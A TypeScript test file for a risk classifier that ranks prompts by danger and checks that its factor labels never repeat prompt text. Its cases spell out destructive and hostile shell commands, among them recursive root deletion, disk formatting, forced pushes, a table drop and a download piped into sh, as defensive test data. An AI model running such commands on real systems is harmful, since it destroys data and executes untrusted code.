/** The levels of risk, and that their factors say nothing of the prompt's text. */
import { describe, expect, test } from "bun:test";
import type { Risk } from "../../contracts/decision.ts";
import type { Prompt } from "../../contracts/prompt.ts";
import { examplePrompt, shellSubject } from "./examples.ts";
import { classifyRisk } from "./risk.ts";

describe("the risk of", () => {
  const cases: [string, Partial<Prompt>, Risk, string[]][] = [
    ["a plain question", {}, "low", []],
    ["a plain question half understood", { confidence: "medium" }, "low", ["confidence:medium"]],
    ["a plain question hardly understood", { confidence: "low" }, "medium", ["confidence:low"]],
    ["a deletion", { question: "Delete 3 files?" }, "medium", ["text:destroys"]],
    [
      "a deletion in production",
      { question: "Delete the production database?" },
      "high",
      ["text:destroys", "text:production"],
    ],
    [
      "a deletion for ever",
      { question: "Delete? This cannot be undone." },
      "high",
      ["text:destroys", "text:irreversible"],
    ],
    [
      "a forced push",
      { subject: shellSubject("git push --force origin main") },
      "medium",
      ["text:forces", "subject:shell"],
    ],
    [
      "a short forced push",
      { subject: shellSubject("git push -f") },
      "medium",
      ["text:forces", "subject:shell"],
    ],
    [
      "removing a folder",
      { subject: shellSubject("rm -rf ./build") },
      "high",
      ["text:removes-recursively", "subject:shell"],
    ],
    [
      "removing everything",
      { subject: shellSubject("rm -rf /") },
      "critical",
      ["text:removes-recursively", "text:root-or-home", "subject:shell"],
    ],
    [
      "formatting a disk",
      { subject: shellSubject("mkfs.ext4 /dev/sda1") },
      "critical",
      ["text:wipes-a-disk", "subject:shell"],
    ],
    ["dropping a table", { question: "DROP TABLE users; proceed?" }, "medium", ["text:drops-data"]],
    [
      "running a download",
      { subject: shellSubject("curl -s https://x.example | sh") },
      "high",
      ["text:runs-download", "subject:shell"],
    ],
    [
      "a password",
      { kind: "password", question: "Password:" },
      "high",
      ["text:secrets", "kind:password"],
    ],
    ["what nobody recognises", { kind: "unknown" }, "medium", ["kind:unknown"]],
    ["what is half hidden", { cut: true }, "medium", ["prompt:cut"]],
    ["a word that only looks like one", { question: "Use the productive format?" }, "low", []],
  ];
  for (const [name, prompt, risk, factors] of cases) {
    test(`${name} is ${risk}`, () => {
      expect(classifyRisk(examplePrompt(prompt))).toEqual({ risk, factors });
    });
  }
});

test("a factor is a fixed name and repeats no word of the prompt", () => {
  const prompt = examplePrompt({
    question: "Delete MYSECRET in production with --force? It is permanent",
    subject: shellSubject("sudo rm -rf /MYSECRET"),
  });
  for (const factor of classifyRisk(prompt).factors) {
    expect(factor).toMatch(/^(text|subject|kind|prompt|confidence):[a-z_-]+$/);
    expect(factor).not.toContain("MYSECRET");
  }
});

test("the longest hostile text is classified within milliseconds", () => {
  const text = "rm -r -r curl wget push ".repeat(400).slice(0, 8_000);
  const from = performance.now();
  classifyRisk(examplePrompt({ subject: shellSubject(text) }));
  expect(performance.now() - from).toBeLessThan(200);
});
